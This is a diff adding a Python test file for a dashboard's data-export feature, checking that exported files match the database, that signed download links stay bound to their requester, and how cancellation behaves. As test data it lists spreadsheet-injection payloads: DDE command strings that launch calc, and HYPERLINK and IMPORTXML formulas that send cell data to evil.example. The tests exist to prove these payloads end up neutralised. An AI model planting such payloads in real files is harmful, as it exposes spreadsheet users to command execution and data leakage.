@@ -1,0 +1,627 @@
+"""Files: equal to the database in every cell, harmless in a spreadsheet, bound to their asker."""
+
+import asyncio
+import csv
+import gzip
+import io
+import re
+import threading
+import time
+import zipfile
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import UTC, date, datetime, timedelta
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+import httpx
+import openpyxl
+import pandas as pd
+import pyarrow.parquet as pq
+import pytest
+from click.testing import CliRunner
+from openpyxl.utils.escape import unescape
+from sqlalchemy import Engine, create_engine, insert, text
+from starlette.applications import Starlette
+
+import serve
+from dashboard import links
+from dashboard.links import Promise
+from data_access import (
+    database,
+    exploring,
+    export_files,
+    export_jobs,
+    exports,
+    saved_views,
+    standings,
+    tables,
+)
+from data_access.__main__ import main
+from data_access.export_files import OfView, Order, Progress
+from data_access.export_jobs import Job
+from data_access.refusals import Invalid, NotAllowed, Refusal
+from program import exports as limits
+from program import formulas
+from program.datasets import ACTIVITY, APPLICATIONS, BY_KEY, DATASETS, WORDS, Column, Dataset, Kind
+from program.exports import Ending, FileFormat, Form
+from program.permissions import Role
+from program.views import View
+from tests.builders import (
+    NOW,
+    STAFF,
+    add_application,
+    add_evidence,
+    add_metrics,
+    add_refresh,
+    add_staff,
+)
+from tests.conftest import CLUSTER
+
+ANA, MIRA, NOOR = "ana@example.com", "mira@example.com", "noor@example.com"
+BROWSER = "what this browser was given"
+BODIES = (
+    "1+1", "HYPERLINK(\"http://evil.example\",\"x\")", "cmd|' /C calc'!A0", "SUM(A1:A9)",
+    "@SUM(1+1)*cmd|'x'!A0", "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
+)  # fmt: skip
+LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", " =", "\u3000=")
+LINKS = (
+    "http://evil.example",
+    "mailto:a@evil.example",
+    "ftp://evil.example/x",
+    "internal:A1",
+    "file:///etc",
+)
+PAYLOADS = (*(lead + body for lead in LEADS for body in BODIES), *LINKS)
+TYPED = ("social_handle", "contact_platform", "contact_handle", "social_platform")
+DAYS = 3_400
+
+
+@pytest.fixture(scope="module")
+def stocked(server: Engine, template: str) -> Iterator[Engine]:
+    """The configured database: formulas in every typed column, and 10,200 money values."""
+    name = "files_" + hex(time.monotonic_ns())[2:]
+    with server.connect() as maintenance:
+        maintenance.execute(text(f"create database {name} template {template}"))
+    engine = create_engine(CLUSTER.url(name), connect_args={"options": "-c timezone=UTC"})
+    with engine.begin() as conn:
+        add_staff(conn)
+        add_refresh(conn)
+        for number, payload in enumerate(PAYLOADS, start=1):
+            _apply(conn, number, payload)
+        conn.execute(
+            text(
+                "create table review.affiliate_daily_all partition of review.affiliate_daily default;"
+                "insert into review.affiliate_daily (affiliate_account_id, day, volume_usd, fees_usd,"
+                " trade_count, zero_fee_volume_usd, active_users, new_users)"
+                " select 1 + n % 40, date '2026-03-14' - n / 40, (n * 7919 % 100000007) + n % 100 / 100.0,"
+                " (n * 104729 % 999983) / 1000000.0 - 0.5, n, n / 7.0, n % 30, n % 7"
+                f" from generate_series(0, {DAYS - 1}) n"
+            )
+        )
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
+        patch.delenv("DATABASE_REPLICA_URL", raising=False)
+        export_jobs.stop()
+        yield engine
+        export_jobs.stop()
+        settled()
+        for purpose in database.Purpose:
+            database.engine(purpose).dispose()
+    engine.dispose()
+    with server.connect() as maintenance:
+        maintenance.execute(text(f"drop database {name}"))
+
+
+def _apply(conn: Any, number: int, payload: str) -> None:
+    status = ("pending", "approved", "rejected")[number % 3]
+    add_application(
+        conn,
+        number,
+        account={"username": payload, "email": payload, "country_code": None},
+        **dict.fromkeys(TYPED, payload),
+        status=status,
+        submitted_at=NOW - timedelta(days=number, microseconds=number * 1_001),
+    )
+    if number % 4:
+        add_metrics(
+            conn, number, volume=Decimal(number * 10**13 + 1) / 100, active=number, fees="-0.000001"
+        )
+    if number % 5 == 0:
+        add_evidence(conn, number, value=number * 1_000)
+        add_evidence(conn, number, kind="external_volume", value="1.005", exchange_name=payload)
+    if status != "pending":
+        conn.execute(
+            insert(tables.decisions).values(
+                application_id=number,
+                outcome=status,
+                rationale=payload,
+                message_to_applicant=payload,
+                reason_code=payload if status == "rejected" else None,
+                override_reason=payload,
+                rebate_rate="0.1234" if status == "approved" else None,
+                decided_by=payload,
+                second_approver=payload + "2",
+                policy_version=1,
+                snapshot={},
+                decided_at=NOW,
+            )
+        )
+
+
+def everything(dataset: Dataset, **query: str) -> View:
+    asked = {"dataset": dataset.key, "columns": ",".join(dataset.names), **query}
+    if dataset is ACTIVITY:
+        asked["day"] = "2025-06-01..2026-03-14"
+    return View.from_query(asked, personal=True)
+
+
+def order_of(view: View, file_format: FileFormat, **form: bool) -> Order:
+    chosen = Form(file_format=file_format, **form)
+    return Order(selection=OfView(view=view), form=chosen, exported_by=ANA, now=NOW)
+
+
+def file_of(order: Order, folder: Path) -> bytes:
+    target = io.BytesIO()
+    export_files.write(order, target, folder=folder, progress=Progress())
+    return target.getvalue()
+
+
+def in_database(engine: Engine, view: View) -> list[dict[str, Any]]:
+    with engine.connect() as conn:
+        return exploring.page(conn, view, standings.basis(conn, now=NOW), size=100_000)
+
+
+def as_csv(value: Any) -> str:
+    match value:
+        case None:
+            return ""
+        case bool():
+            return "true" if value else "false"
+        case datetime():
+            written = value.astimezone(UTC).isoformat().removesuffix("+00:00")
+            # As the database writes it: no more digits of a second than it has.
+            return (written.rstrip("0") if "." in written else written) + "Z"
+        case date():
+            return value.isoformat()
+        case Decimal():
+            return f"{value:f}"
+    return str(value)
+
+
+def as_cell(value: Any, column: Column) -> Any:
+    """What a spreadsheet holds for a value."""
+    if isinstance(value, datetime):
+        # A spreadsheet's times go to the millisecond.
+        plain = value.astimezone(UTC).replace(tzinfo=None) + timedelta(microseconds=500)
+        return plain.replace(microsecond=plain.microsecond // 1000 * 1000)
+    if isinstance(value, Decimal):
+        scaled = value.quantize(Decimal(1).scaleb(-column.scale))
+        digits = len(str(scaled.normalize().as_tuple().digits)) // 3
+        return f"{scaled:f}" if digits > 15 else scaled
+    if isinstance(value, date):
+        return datetime.fromisoformat(value.isoformat())
+    return None if value == "" else value
+
+
+@pytest.mark.parametrize("key", list(BY_KEY))
+def test_every_format_reads_back_as_the_database_has_it(
+    stocked: Engine, tmp_path: Path, key: str
+) -> None:
+    view = everything(BY_KEY[key])
+    expected, names = in_database(stocked, view), [column.name for column in view.shown]
+
+    table = pq.read_table(io.BytesIO(file_of(order_of(view, FileFormat.PARQUET), tmp_path)))
+    lines = file_of(order_of(view, FileFormat.CSV, bom=True, gzip=True), tmp_path)
+    frame = pd.read_csv(
+        io.BytesIO(gzip.decompress(lines)), dtype=str, keep_default_na=False, encoding="utf-8-sig"
+    )
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(file_of(order_of(view, FileFormat.XLSX), tmp_path))
+    )
+    header, *cells = workbook["Rows"].iter_rows(values_only=True)
+
+    assert table.column_names == list(frame.columns) == list(header) == names
+    assert len(expected) == table.num_rows == len(frame) == len(cells) > 0 or key == "monthly"
+    assert table.to_pylist() == expected
+    words = [column.kind in WORDS for column in view.shown]
+    for row, line, row_cells in zip(expected, frame.itertuples(index=False), cells, strict=True):
+        read = [
+            formulas.unguarded(cell) if word else cell
+            for cell, word in zip(line, words, strict=True)
+        ]
+        assert read == [as_csv(value) for value in row.values()]
+        for value, cell, column in zip(row.values(), row_cells, view.shown, strict=True):
+            wanted = as_cell(value, column)
+            if isinstance(wanted, Decimal):
+                assert Decimal(repr(cell)).quantize(Decimal(1).scaleb(-column.scale)) == wanted
+            else:
+                # Spreadsheets know control characters by their number.
+                assert (unescape(cell) if isinstance(cell, str) else cell) == wanted, column.name
+    if key == "activity":
+        assert 3 * len(expected) >= 10_000
+
+
+@pytest.mark.parametrize("dataset", [d for d in DATASETS if d.key not in ("monthly", "activity")])
+def test_no_payload_is_live_in_any_text_column_of_any_format(
+    stocked: Engine, tmp_path: Path, dataset: Dataset
+) -> None:
+    view = everything(dataset)
+    texts = [column.name for column in view.shown if column.kind is Kind.TEXT]
+    lines = csv.DictReader(
+        io.StringIO(file_of(order_of(view, FileFormat.CSV), tmp_path).decode(), newline="")
+    )
+    packed = file_of(order_of(view, FileFormat.XLSX), tmp_path)
+
+    seen = set()
+    for line in lines:
+        for name in line:
+            assert not line[name].startswith(tuple("=+@\t\r\n＝＋－＠"))
+            assert not line[name].startswith("-") or re.fullmatch(r"-[0-9.]+", line[name])
+        seen |= {formulas.unguarded(line[name]) for name in texts}
+    assert len(PAYLOADS) >= 50
+    assert seen >= set(PAYLOADS) or dataset.key != "applications"
+    with zipfile.ZipFile(io.BytesIO(packed)) as parts:
+        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
+        assert not re.search(r"<f[ >]|<hyperlink|t=\"str\"", sheet)
+        assert not [
+            name for name in parts.namelist() if "externalLink" in name or "sheet1.xml.rels" in name
+        ]
+    for row in openpyxl.load_workbook(io.BytesIO(packed))["Rows"].iter_rows():
+        assert {cell.data_type for cell in row} <= {"s", "n", "d", "b", "inlineStr"}
+        assert not [cell for cell in row if cell.hyperlink]
+
+
+def test_a_workbook_is_typed_frozen_and_says_what_it_is(stocked: Engine, tmp_path: Path) -> None:
+    view = View.from_kept(
+        "columns=application_id,submitted_at,volume_usd&status=pending", personal=True
+    )
+    book = openpyxl.load_workbook(io.BytesIO(file_of(order_of(view, FileFormat.XLSX), tmp_path)))
+    rows, about = book["Rows"], dict(book["About"].iter_rows(values_only=True))
+
+    assert rows.freeze_panes == "A2"
+    assert [cell.data_type for cell in rows[2]] == ["n", "d", "n"]
+    assert rows["C2"].number_format == "#,##0.00"
+    assert about["Filters"] == "status: pending"
+    assert (about["Window"], about["Data through"]) == (
+        "2026-02-13 to 2026-03-14, UTC",
+        "2026-03-14, UTC",
+    )
+    assert (about["Policy"], about["Exported by"], about["Rows"]) == (
+        "version 1",
+        ANA,
+        f"{rows.max_row - 1}",
+    )
+    assert about["Exported at"] == "2026-03-15 09:00:00 UTC"
+
+
+def test_more_rows_than_a_sheet_holds_are_refused_with_the_way_on(
+    stocked: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(limits, "XLSX_ROWS", len(PAYLOADS) - 1)
+    monkeypatch.setattr(export_files, "XLSX_ROWS", len(PAYLOADS) - 1)
+
+    with pytest.raises(Invalid, match="export as CSV or Parquet"):
+        file_of(order_of(everything(APPLICATIONS), FileFormat.XLSX), tmp_path)
+    file_of(order_of(everything(APPLICATIONS), FileFormat.PARQUET), tmp_path)
+
+
+# --- The command line -----------------------------------------------------------------------------
+
+
+def run(*arguments: str) -> Any:
+    return CliRunner().invoke(main, ["export", *arguments])
+
+
+def settled() -> None:
+    """Wait for what runs beside a test: following an export, and its line in the log."""
+    for name in ("export", "export-log"):
+        for thread in threading.enumerate():
+            if thread.name == name:
+                thread.join(15)
+
+
+def last_line(engine: Engine) -> Any:
+    settled()
+    with engine.connect() as conn:
+        return conn.execute(
+            text("select * from review.exports order by export_id desc limit 1")
+        ).one()
+
+
+def test_the_command_line_writes_the_same_rows_and_the_same_log(
+    stocked: Engine, tmp_path: Path
+) -> None:
+    view = View.from_kept(
+        "columns=application_id,username&sort=-username&status=approved", personal=True
+    )
+    with stocked.begin() as conn:
+        conn.execute(text("delete from review.saved_views"))
+    saved_views.save(stocked, name="Approved ones", filters=view, shared=False, actor=ANA, now=NOW)
+
+    asked = (
+        "--columns",
+        "application_id,username",
+        "--order",
+        "-username",
+        "--filter",
+        "status=approved",
+    )
+    to_stdout = run("applications", "-", *asked)
+    saved = run(str(tmp_path / "x.csv"), "--view", "approved ONES")
+    packed = run("applications", str(tmp_path / "x.parquet"), *asked)
+
+    assert (to_stdout.exit_code, saved.exit_code, packed.exit_code) == (0, 0, 0), saved.output
+    written = file_of(order_of(view, FileFormat.CSV), tmp_path)
+    assert to_stdout.stdout_bytes == (tmp_path / "x.csv").read_bytes() == written
+    ids = [int(line[0]) for line in list(csv.reader(io.StringIO(written.decode(), newline="")))[1:]]
+    assert pq.read_table(tmp_path / "x.parquet")["application_id"].to_pylist() == ids
+    with stocked.connect() as conn:
+        lines = conn.execute(
+            text(
+                "select format, view_name, filters, columns, row_count, outcome from review.exports order by export_id desc limit 3"
+            )
+        ).all()
+    assert [line.format for line in lines] == ["parquet", "csv", "csv"]
+    assert [line.view_name for line in lines] == [None, "Approved ones", None]
+    assert (
+        len(
+            {(str(line.filters), str(line.columns), line.row_count, line.outcome) for line in lines}
+        )
+        == 1
+    )
+
+
+@pytest.mark.parametrize(
+    ("arguments", "said"),
+    [
+        (["people", "-"], "There is no dataset 'people'"),
+        (["-"], "Name a dataset and a file"),
+        (["decisions", "-", "--filter", "outcome"], "write COLUMN=FILTER"),
+        (["decisions", "-", "--filter", "outcome=maybe"], "is not understood"),
+        (["decisions", "-", "--filter", "colour=red"], "There is no column"),
+        (["decisions", "-", "--columns", "decision_id,colour"], "There is no column"),
+        (["decisions", "-", "--status", "approved"], "--status is the queue's"),
+        (
+            ["applications", "-", "--status", "approved", "--order", "status"],
+            "--status is the queue's",
+        ),
+        (["activity", "-", "--filter", "day=2020-01-01..2026-01-01"], "at most 366 days"),
+        (["-", "--view", "no such"], "There is no view 'no such'"),
+        (["decisions", "x.xlsx", "--gzip"], "are for CSV"),
+    ],
+)
+def test_what_the_command_line_does_not_understand_it_refuses(
+    stocked: Engine, arguments: list[str], said: str
+) -> None:
+    done = run(*arguments)
+
+    assert done.exit_code == 1
+    assert said in done.stderr
+    assert done.stderr.count("\n") == 1
+
+
+def test_files_are_read_from_the_replica_and_logged_in_the_database(
+    stocked: Engine, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DATABASE_REPLICA_URL", "postgresql://nobody@127.0.0.1:1/nowhere")
+
+    done = run("decisions", "-")
+
+    assert (
+        "DATABASE_REPLICA_URL" in done.stderr
+        or "did not answer" in done.stderr
+        or "does not answer" in done.stderr
+    )
+    assert last_line(stocked).outcome == "failed"
+
+
+# --- The link -------------------------------------------------------------------------------------
+
+
+def promise(email: str = ANA, **given: Any) -> Promise:
+    return Promise(
+        **{"email": email, "role": Role(STAFF[email]), "query": {"status": "pending"}, **given}
+    )
+
+
+def address(made: Promise, browser: str = BROWSER) -> str:
+    return "/" + links.view_link(made, "applications", browser=browser)
+
+
+def answer(path: str, *, browser: str = BROWSER) -> httpx.Response:
+    async def ask() -> httpx.Response:
+        transport = httpx.ASGITransport(Starlette(routes=serve.ROUTES))
+        cookies = {links.BROWSER_COOKIE: browser} if browser else {}
+        async with httpx.AsyncClient(
+            transport=transport, base_url="http://localhost", cookies=cookies, timeout=30
+        ) as client:
+            return await client.get(path)
+
+    return asyncio.run(ask())
+
+
+def test_a_link_gives_the_view_as_its_format_to_its_person(stocked: Engine) -> None:
+    asked = promise(
+        query={"columns": "application_id", "sort": "application_id"},
+        form=Form(file_format=FileFormat.PARQUET),
+        view_name="mine",
+    )
+
+    given = answer(address(asked))
+
+    assert given.status_code == 200
+    assert pq.read_table(io.BytesIO(given.content))["application_id"].to_pylist() == list(
+        range(1, len(PAYLOADS) + 1)
+    )
+    assert re.search(
+        r'filename="applications-[\d-]+\.parquet"', given.headers["content-disposition"]
+    )
+    line = last_line(stocked)
+    assert (line.exported_by, line.row_count, line.format, line.outcome, line.view_name) == (
+        *(ANA, len(PAYLOADS), "parquet", "complete"),
+        "mine",
+    )
+
+
+def altered() -> str:
+    mine, other = (
+        parse_qs(urlsplit(address(made)).query)["token"][0]
+        for made in (promise(), promise(query={"status": "approved"}))
+    )
+    forged = ".".join([other.rsplit(".", 2)[0], *mine.rsplit(".", 2)[1:]])
+    return f"/export/applications.csv?token={forged}"
+
+
+def test_a_link_that_is_not_one_s_own_any_more_gives_a_sentence_and_reads_nothing(
+    stocked: Engine, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    begun: list[Any] = []
+    monkeypatch.setattr(export_jobs, "begin", lambda *given, **_: begun.append(given))
+    demoted = promise(email=NOOR, role=Role.MANAGER)
+    stranger = replace(promise(), email="eve@example.com")
+    gone = replace(promise(), email="leo@example.com")
+
+    for path, browser, said in (
+        (address(promise()), "another browser", "made for another browser"),
+        (address(promise()), "", "made for another browser"),
+        (altered(), BROWSER, "was altered"),
+        ("/export/applications.csv", BROWSER, "was altered"),
+        (address(demoted), BROWSER, "Your role changed"),
+        (address(stranger), BROWSER, "staff list"),
+        (address(gone), BROWSER, "staff list"),
+    ):
+        given = answer(path, browser=browser)
+        assert (given.status_code, said in given.text) == (403, True), given.text
+    old = address(promise())
+    monkeypatch.setattr(links, "LINK_SECONDS", -1)
+    assert answer(old).status_code == 403
+    assert begun == []
+
+
+def test_personal_columns_are_in_a_file_as_they_are_in_the_table(stocked: Engine) -> None:
+    query = {"columns": "application_id,email,contact_handle", "email": "~x"}
+
+    for email, columns in (
+        (ANA, ["application_id", "email", "contact_handle"]),
+        (NOOR, ["application_id"]),
+    ):
+        made = answer(address(promise(email=email, query=query))).content.decode()
+        assert made.splitlines()[0].split(",") == columns
+
+
+def test_only_managers_see_who_exported_what(stocked: Engine) -> None:
+    answer(address(promise()))
+    last_line(stocked)
+
+    assert exports.log(stocked, viewer=MIRA, limit=1)[0].exported_by == ANA
+    for email in (ANA, NOOR, "ada@example.com", "eve@example.com"):
+        with pytest.raises(NotAllowed):
+            exports.log(stocked, viewer=email)
+
+
+# --- Hanging up, cancelling, and a database that goes away ------------------------------------------
+
+
+def drain(pieces: Iterator[bytes | None]) -> None:
+    for piece in pieces:
+        time.sleep(0 if piece else 0.02)
+
+
+@pytest.fixture
+def stuck(stocked: Engine) -> Iterator[Job]:
+    """An export whose first bytes have left and whose query waits for a lock."""
+    with stocked.connect() as holder, holder.begin():
+        holder.execute(text("lock table review.affiliate_daily in access exclusive mode"))
+        job = export_jobs.begin(order_of(everything(ACTIVITY), FileFormat.CSV))
+        until(lambda: job.can_be_read)
+        until(lambda: working(stocked) > 0)
+        yield job
+    job.cancel()
+
+
+def until(condition: Any, seconds: float = 15) -> None:
+    deadline = time.monotonic() + seconds
+    while not condition():
+        assert time.monotonic() < deadline
+        time.sleep(0.02)
+
+
+def working(engine: Engine) -> int:
+    with engine.connect() as conn:
+        return conn.execute(
+            text(
+                "select count(*) from pg_stat_activity where datname = current_database()"
+                " and application_name = 'affiliate-review exporter' and xact_start is not null"
+            )
+        ).scalar_one()
+
+
+def test_a_client_that_hangs_up_leaves_no_transaction_and_is_told(
+    stocked: Engine, stuck: Job
+) -> None:
+    sent: list[dict[str, Any]] = []
+
+    async def receive() -> dict[str, Any]:
+        while not any(message.get("body") for message in sent):
+            await asyncio.sleep(0.01)
+        return {"type": "http.disconnect"}
+
+    async def send(message: Any) -> None:
+        sent.append(message)
+
+    from dashboard.downloads import Download
+
+    scope = {"type": "http", "asgi": {"spec_version": "2.3"}}
+    asyncio.run(Download(stuck, headers={})(scope, receive, send))
+
+    assert sent[1]["body"].startswith(b"day,account_id,")
+    until(lambda: working(stocked) == 0, 5)
+    assert [job.sentence for job in export_jobs.of(ANA) if job is stuck] == [export_jobs.HUNG_UP]
+    assert not stuck.folder.exists()
+    assert last_line(stocked).outcome == "cancelled"
+
+
+def test_one_cancels_one_s_own_export_and_nobody_else_s(stocked: Engine, stuck: Job) -> None:
+    export_jobs.cancel(stuck.job_id, actor=MIRA)
+    assert stuck.ending is None
+
+    export_jobs.cancel(stuck.job_id, actor=ANA)
+
+    assert stuck.ending is Ending.CANCELLED
+    until(lambda: working(stocked) == 0, 5)
+    with pytest.raises((Refusal, FileNotFoundError)):
+        list(export_jobs.pieces(stuck))
+
+
+def test_a_database_that_goes_away_breaks_the_file_off_and_says_so(
+    stocked: Engine, stuck: Job
+) -> None:
+    pieces = export_jobs.pieces(stuck)
+    assert next(pieces)
+    with stocked.begin() as conn:
+        conn.execute(
+            text(
+                "select pg_terminate_backend(pid) from pg_stat_activity"
+                " where datname = current_database() and application_name = 'affiliate-review exporter'"
+                " and xact_start is not null"
+            )
+        )
+    with pytest.raises(Refusal, match="database was lost, so the file is incomplete"):
+        drain(pieces)
+
+    assert stuck.ending is Ending.FAILED
+    assert working(stocked) == 0
+    assert last_line(stocked).outcome == "failed"
+
+
+def test_more_exports_than_the_server_takes_are_refused(
+    stocked: Engine, stuck: Job, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(export_jobs, "AT_ONCE_EACH", 1)
+    assert "cancel one" in answer(address(promise())).text
+
+    monkeypatch.setattr(export_jobs, "AT_ONCE", 1)
+    assert "as many as the server takes" in answer(address(promise(email=MIRA))).text
